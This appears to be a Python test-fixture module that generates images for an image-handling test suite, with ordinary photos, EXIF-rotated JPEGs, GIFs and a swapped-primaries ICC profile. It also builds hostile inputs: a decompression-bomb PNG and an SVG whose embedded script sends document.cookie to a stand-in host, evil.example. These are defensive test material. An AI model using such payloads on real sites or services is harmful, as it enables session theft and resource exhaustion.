"""Pictures for the images tests: real encoded photos, and hostile files built byte by byte."""

import io
import struct
import zlib

from PIL import Image, ImageDraw


def photo(width: int = 1200, height: int = 800, fmt: str = "JPEG", seed: int = 0, **save) -> bytes:
    """Return an encoded picture with stripes (so sizes and colours are checkable)."""
    image = Image.new("RGB", (width, height), (70 + seed % 100, 110, 150))
    draw = ImageDraw.Draw(image)
    for y in range(0, height, 8):
        draw.rectangle([0, y, width, y + 8], fill=(70 + y % 120, 110 + y % 60, 150 - y % 90))
    draw.rectangle([0, 0, width // 4, height // 4], fill=(220, 30 + seed % 200, 30))  # a red top-left corner
    out = io.BytesIO()
    image.save(out, fmt, **({"quality": 80} if fmt in ("JPEG", "WEBP") else {}) | save)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width: int, height: int, payload: bytes = b"") -> bytes:
    """Return a valid-looking PNG whose header claims width×height (8-bit grey), with a tiny body.

    A decompression bomb is exactly this: a few KB that would inflate to gigabytes if decoded.
    """
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(payload or b"\x00" * 1024, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def animated_gif(frames=((255, 0, 0), (0, 0, 255), (0, 255, 0))) -> bytes:
    """Return an animated GIF whose first frame is red."""
    images = [Image.new("RGB", (200, 150), colour) for colour in frames]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=100, loop=0)
    return out.getvalue()


def jpeg_rotated(orientation: int = 6, width: int = 400, height: int = 300) -> bytes:
    """Return a JPEG stored width×height with an EXIF orientation tag and a camera model."""
    image = Image.new("RGB", (width, height), (20, 160, 60))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x0110] = "Camera de test"
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), quality=80)
    return out.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<rect width="400" height="300" fill="red"/></svg>'
)
HTML_PAGE = b"<!doctype html><html><head><title>Not found</title></head><body>404</body></html>"


def _s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def _xyz(x: float, y: float, z: float) -> bytes:
    return b"XYZ \x00\x00\x00\x00" + _s15(x) + _s15(y) + _s15(z)


def swapped_primaries_profile() -> bytes:
    """Return an ICC v2 RGB profile whose red and blue primaries are sRGB's blue and red.

    A picture tagged with it and stored as pure red is, correctly converted, pure blue.
    """
    red, green, blue = (0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606, 0.7141)
    text = b"Swapped primaries (test)"
    desc = (
        b"desc\x00\x00\x00\x00"
        + struct.pack(">I", len(text) + 1)
        + text
        + b"\x00"
        + b"\x00" * 8
        + b"\x00\x00\x00"
        + b"\x00" * 67
    )
    curve = b"curv\x00\x00\x00\x00" + struct.pack(">I", 1) + struct.pack(">H", 0x0233) + b"\x00\x00"
    tags = [
        (b"desc", desc),
        (b"wtpt", _xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", _xyz(*blue)),
        (b"gXYZ", _xyz(*green)),
        (b"bXYZ", _xyz(*red)),
        (b"rTRC", curve),
        (b"gTRC", curve),
        (b"bTRC", curve),
        (b"cprt", b"text\x00\x00\x00\x00test\x00"),
    ]
    offset = 128 + 4 + 12 * len(tags)
    table, data = b"", b""
    for signature, body in tags:
        while len(body) % 4:
            body += b"\x00"
        table += signature + struct.pack(">II", offset + len(data), len(body))
        data += body
    size = offset + len(data)
    header = (
        struct.pack(">I", size)
        + b"\x00" * 4
        + bytes([2, 0x10, 0, 0])
        + b"mntrRGB XYZ "
        + struct.pack(">6H", 2026, 1, 1, 0, 0, 0)
        + b"acsp"
        + b"\x00" * 24
        + b"\x00" * 4
        + _s15(0.9642)
        + _s15(1.0)
        + _s15(0.8249)
        + b"\x00" * 48
    )
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + data
